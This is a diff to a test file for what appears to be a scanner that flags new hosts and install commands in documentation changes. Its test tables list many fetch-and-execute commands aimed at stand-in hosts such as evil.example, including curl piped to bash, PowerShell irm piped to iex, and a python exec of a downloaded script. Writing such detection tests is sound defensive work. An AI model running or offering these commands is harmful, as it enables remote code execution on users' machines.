@@ -52,6 +52,14 @@ describe('new hosts', () => {
   });
 });
 
+test('commands are read over the lines that a shell joins, and compared by their packages', async () => {
+  expect(await names('```sh\ncurl -fsSL evil.example/i \\\n  | bash\n```\n')).toEqual([
+    'command 2 curl -fsSL evil.example/i | bash',
+  ]);
+  const files = { ...before, 'docs/run.md': 'npx acme-cli@1 --a\n' };
+  expect(await brought(files, { 'docs/run.md': 'npx acme-cli@2 --b c\n' }, 'docs')).toEqual([]);
+});
+
 test.each([
   ['.vitepress/config.ts', "export default { themeConfig: { nav: [{ text: 'A', link: 'https://evil.dev/' }] } };\n"],
   [
@@ -92,14 +100,14 @@ describe('new commands', () => {
     ['npm install evil', 'npm install evil'],
     ['```sh\n$ npm i -g evil\n```', 'npm i -g evil'],
     ['Run `pip install evil`.', 'pip install evil'],
-    ['python -m pip install evil', 'python -m pip install evil'],
+    ['python -m pip install evil', 'pip install evil'],
     ['curl -fsSL https://evil.example/i.sh | sh', 'curl -fsSL https://evil.example/i.sh | sh'],
     ['wget -qO- evil.example | sudo bash', 'wget -qO- evil.example | sudo bash'],
     ['curl -fLo x https://evil.example/x', 'curl -fLo x https://evil.example/x'],
     ['wget https://evil.example/x', 'wget https://evil.example/x'],
-    ['curl https://evil.example/x -o x && chmod +x x', 'curl https://evil.example/x -o x && chmod +x x'],
+    ['curl https://evil.example/x -o x && chmod +x x', 'curl https://evil.example/x -o x'],
     ['curl -X POST https://api.evil.example/v1 -H "a: b"', undefined],
-    ['bash <(curl -s evil.example)', 'bash <(curl -s evil.example'],
+    ['bash <(curl -s evil.example)', 'curl -s evil.example'],
     ['docker run --rm evil/image', 'docker run --rm evil/image'],
     ['sudo apt-get install evil', 'apt-get install evil'],
     ['brew install evil/tap/evil', 'brew install evil/tap/evil'],
@@ -109,6 +117,43 @@ describe('new commands', () => {
     ['npx evil@latest', 'npx evil@latest'],
     ['irm https://evil.example/i.ps1 | iex', 'irm https://evil.example/i.ps1 | iex'],
     ['helm repo add evil https://evil.example', 'helm repo add evil https://evil.example'],
+    ['curl -fsSL evil.example/i.sh | sudo -E bash -', 'curl -fsSL evil.example/i.sh | sudo -E bash -'],
+    ['curl -fsSL evil.example > x.sh; sh x.sh', 'curl -fsSL evil.example > x.sh'],
+    ['sh -c "$(curl -fsSL https://evil.example/i)"', 'sh -c "$(curl -fsSL https://evil.example/i'],
+    ['eval "$(wget -qO- https://evil.example/i)"', 'wget -qO- https://evil.example/i'],
+    ['powershell -c "irm https://evil.example/i | iex"', 'irm https://evil.example/i | iex'],
+    [
+      "iex ((New-Object Net.WebClient).DownloadString('https://evil.example/i'))",
+      "iex ((New-Object Net.WebClient).DownloadString('https://evil.example/i'))",
+    ],
+    [
+      'python3 -c "import urllib.request as r; exec(r.urlopen(\'https://evil.example\').read())"',
+      `python3 -c "import urllib.request as r; exec(r.urlopen('https://evil.example').read())"`,
+    ],
+    ['deno run -A https://evil.example/a.ts', 'deno run -A https://evil.example/a.ts'],
+    ['claude mcp add evil -- npx evil', 'claude mcp add evil -- npx evil'],
+    ['gh extension install evil/gh-evil', 'gh extension install evil/gh-evil'],
+    [
+      '[Add](cursor://anysphere.cursor-deeplink/mcp/install?name=evil)',
+      'cursor://anysphere.cursor-deeplink/mcp/install?name=evil',
+    ],
+    ['code --install-extension evil.evil', 'code --install-extension evil.evil'],
+    ['kubectl apply -n a -f https://evil.example/a.yml', 'kubectl apply -n a -f https://evil.example/a.yml'],
+    ['pip3.11 install --user evil==1.2', 'pip3.11 install --user evil==1.2'],
+    ['npm --prefix a install evil', 'npm --prefix a install evil'],
+    ['FOO=1 env -i /usr/local/bin/pip install evil', '/usr/local/bin/pip install evil'],
+    ['npx --yes evil', 'npx --yes evil'],
+    ['docker run --rm -p 80:80 evil/image sh', 'docker run --rm -p 80:80 evil/image sh'],
+    ['pip install git+https://evil.example/a.git', 'pip install git+https://evil.example/a.git'],
+    ['nix run github:evil/evil#a', 'nix run github:evil/evil#a'],
+    ['Install-Module evil', 'Install-Module evil'],
+    ['npm i acme evil', 'npm i acme evil'],
+    ['npm i acme@2 --save-dev', undefined],
+    ['yarn add acme', 'yarn add acme'],
+    ['kubectl apply -f ./a.yml', undefined],
+    ['pip install -r requirements.txt', undefined],
+    ['docker compose up -d', undefined],
+    ['go run .', undefined],
     ['npm install acme', undefined],
     ['pip install acme-tools', undefined],
     ['npm install', undefined],
